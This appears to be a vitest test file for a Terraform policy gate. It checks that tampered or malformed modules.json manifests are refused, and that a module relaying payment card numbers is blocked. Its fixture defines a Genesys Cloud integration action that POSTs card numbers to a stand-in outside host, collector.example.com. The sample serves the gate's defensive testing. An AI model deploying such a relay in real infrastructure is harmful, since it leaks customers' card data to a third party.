import * as fs from "node:fs";
import * as path from "node:path";
import { describe, expect, test } from "vitest";
import { runGate } from "../../src/cli/commands/gate";
import { versionSatisfies } from "../../src/inventory/hcl/module-version";
import { tempDir } from "../helpers/stacks";

// Each case was found by the modules.json fuzz kind (test/fuzz/oracle/modules-json-kind.ts) and
// checked with terraform validate (1.11.4): where Terraform refuses the manifest, the gate exits 2
// naming it; a downloaded folder without configuration is refused rather than read as no resources.

const CARD_MODULE = `resource "genesyscloud_integration" "relay" {
  integration_type = "custom-rest-actions"
}
resource "genesyscloud_integration_action" "relay" {
  name = "Relay"
  category = "Payments"
  integration_id = genesyscloud_integration.relay.id
  secure = false
  contract_input = jsonencode({ type = "object", properties = { cardNumber = { type = "string" } } })
  contract_output = jsonencode({})
  config_request {
    request_type = "POST"
    request_url_template = "https://collector.example.com/relay"
  }
}
`;
const SOURCE = "registry.terraform.io/example/card-relay/genesyscloud";
const RECORD = { Key: "relay", Source: SOURCE, Version: "1.2.0", Dir: ".terraform/modules/relay" };

function folder(manifest: unknown): string {
  const dir = tempDir("modules-as-terraform-");
  const write = (file: string, text: string) => {
    fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    fs.writeFileSync(path.join(dir, file), text);
  };
  write(
    "main.tf",
    'provider "genesyscloud" {\n  aws_region = "eu-west-1"\n}\nmodule "relay" {\n  source  = "example/card-relay/genesyscloud"\n  version = "~> 1.0"\n}\n',
  );
  write(".terraform/modules/relay/main.tf", CARD_MODULE);
  write(".terraform/modules/approved/main.tf", "");
  write(".terraform/modules/empty/README.md", "not configuration\n");
  fs.symlinkSync("loop", path.join(dir, ".terraform", "modules", "loop"));
  write(".terraform/modules/modules.json", typeof manifest === "string" ? manifest : JSON.stringify(manifest));
  return dir;
}
const modules = (...records: unknown[]) => ({ Modules: [{ Key: "", Source: "", Dir: "." }, ...records] });

describe("modules.json read as Terraform reads it", () => {
  test.each([
    [
      "two records for the module (the second pointing elsewhere)",
      modules(RECORD, { ...RECORD, Dir: ".terraform/modules/approved" }),
      'one record for Key "relay"',
    ],
    [
      "an installed version the constraint refuses",
      modules({ ...RECORD, Version: "2.0.0" }),
      'a version that meets "~> 1.0", not "2.0.0"',
    ],
    ["no installed version", modules({ ...RECORD, Version: undefined }), 'a version that meets "~> 1.0", not ""'],
    ["a pre-release", modules({ ...RECORD, Version: "1.2.0-beta" }), "a version that meets"],
    [
      "a folder without configuration",
      modules({ ...RECORD, Dir: ".terraform/modules/empty" }),
      "a module folder with .tf or .tf.json files",
    ],
    ["the root folder", modules({ ...RECORD, Dir: "." }), "not the root module's"],
    [
      "a symlink loop as the folder",
      modules({ ...RECORD, Dir: ".terraform/modules/loop" }),
      "a module folder that can be read",
    ],
    ["a NUL in the folder", modules({ ...RECORD, Dir: ".terraform/modules/relay\u0000x" }), "without NUL characters"],
    [
      "a field that is not a string in another record",
      { Modules: [{ Key: "", Source: 5, Dir: "." }, RECORD] },
      "are strings",
    ],
  ])("%s: exit 2 naming modules.json", async (_name, manifest, message) => {
    const dir = folder(manifest);
    await expect(runGate(dir, { format: "json" })).rejects.toThrow(message);
    await expect(runGate(dir, { format: "json" })).rejects.toThrow("modules.json");
  });

  test.each([
    [
      "the fields in another case (Go's encoding/json ignores it)",
      {
        modules: [
          { key: "", source: "", dir: "." },
          { key: "relay", source: SOURCE, version: "1.2.0", dir: RECORD.Dir },
        ],
      },
    ],
    [
      "a Kelvin sign for the k of Key",
      {
        Modules: [
          { Key: "", Source: "", Dir: "." },
          { "\u212aey": "relay", Source: SOURCE, Version: "1.2.0", Dir: RECORD.Dir },
        ],
      },
    ],
    ["a version with a v and build metadata", modules({ ...RECORD, Version: "v1.2.0+build.7" })],
    ["a null record (Go's zero record) in place of the root's", { Modules: [null, RECORD] }],
  ])("%s: read as Terraform reads it, and the module's card relay blocks", async (_name, manifest) => {
    const { report } = await runGate(folder(manifest), { format: "json" });
    expect(report.exitCode).toBe(1);
  });

  test("version constraints as go-version reads them (checked with terraform validate)", () => {
    expect(versionSatisfies("5.0.0", "~> 1")).toBe(true);
    expect(versionSatisfies("1.3.0", "~> 1.2.3")).toBe(false);
    expect(versionSatisfies("1.2.9", "~> 1.2.3")).toBe(true);
    expect(versionSatisfies("1.2", "~> 1.0")).toBe(true);
    expect(versionSatisfies("1.0.0", ">= 1.0, < 2.0")).toBe(true);
    expect(versionSatisfies("2.0.0", ">= 1.0, < 2.0")).toBe(false);
    expect(versionSatisfies("abc", "~> 1.0")).toBe(false);
    expect(versionSatisfies("1.0.0", "about one")).toBeUndefined();
  });
});

describe("a local module is loaded from the Dir modules.json records for it (checked with terraform console)", () => {
  // Terraform's loader takes every module, local ones included, from the manifest's Dir for its key;
  // terraform init records the source path there. A stale or edited .terraform pointing the key
  // elsewhere would deploy that folder while the gate read the source path.
  function localFolder(records: unknown[] | undefined): string {
    const dir = tempDir("local-module-manifest-");
    const write = (file: string, text: string) => {
      fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
      fs.writeFileSync(path.join(dir, file), text);
    };
    write(
      "main.tf",
      'provider "genesyscloud" {\n  aws_region = "eu-west-1"\n}\nmodule "relay" {\n  source = "./safe"\n}\n',
    );
    write("safe/main.tf", 'module "inner" {\n  source = "../inner"\n}\n');
    write("inner/main.tf", "");
    write("evil/main.tf", CARD_MODULE);
    if (records)
      write(
        ".terraform/modules/modules.json",
        JSON.stringify({ Modules: [{ Key: "", Source: "", Dir: "." }, ...records] }),
      );
    return dir;
  }
  const SAFE = { Key: "relay", Source: "./safe", Dir: "safe" };
  const INNER = { Key: "relay.inner", Source: "../inner", Dir: "inner" };

  test.each([
    [
      "the module's Dir",
      [{ ...SAFE, Dir: "evil" }, INNER],
      'Modules[1] (Key "relay"): Dir "safe"',
      'records Dir "evil"',
    ],
    [
      "a nested module's Dir",
      [SAFE, { ...INNER, Dir: "evil" }],
      'Modules[2] (Key "relay.inner"): Dir "inner"',
      'records Dir "evil"',
    ],
    [
      "the root folder as the module's Dir",
      [{ ...SAFE, Dir: "." }, INNER],
      'Modules[1] (Key "relay"): Dir "safe"',
      'records Dir "."',
    ],
  ])("%s pointing at another folder: exit 2 naming modules.json and the key", async (_name, records, where, found) => {
    const dir = localFolder(records);
    const run = runGate(dir, { format: "json" });
    await expect(run).rejects.toThrow(`${path.join(dir, ".terraform", "modules", "modules.json")}: ${where}`);
    await expect(runGate(dir, { format: "json" })).rejects.toThrow(found);
    await expect(runGate(dir, { format: "json" })).rejects.toThrow("run terraform init");
  });

  test.each([
    ["as terraform init writes them", [SAFE, INNER]],
    [
      "spelt another way (./safe/, ./inner)",
      [
        { ...SAFE, Dir: "./safe/" },
        { ...INNER, Dir: "./inner" },
      ],
    ],
    ["with no record for the module", [INNER]],
    ["without a manifest", undefined],
  ])("records %s: the source path is read as before", async (_name, records) => {
    const { report } = await runGate(localFolder(records as unknown[] | undefined), { format: "json" });
    expect(report.exitCode).toBe(0);
  });

  test("the folder the edited record names would block (so the refusal above matters)", async () => {
    const dir = localFolder(undefined);
    fs.writeFileSync(path.join(dir, "main.tf"), 'module "relay" {\n  source = "./evil"\n}\n');
    const { report } = await runGate(dir, { format: "json" });
    expect(report.exitCode).toBe(1);
  });
});
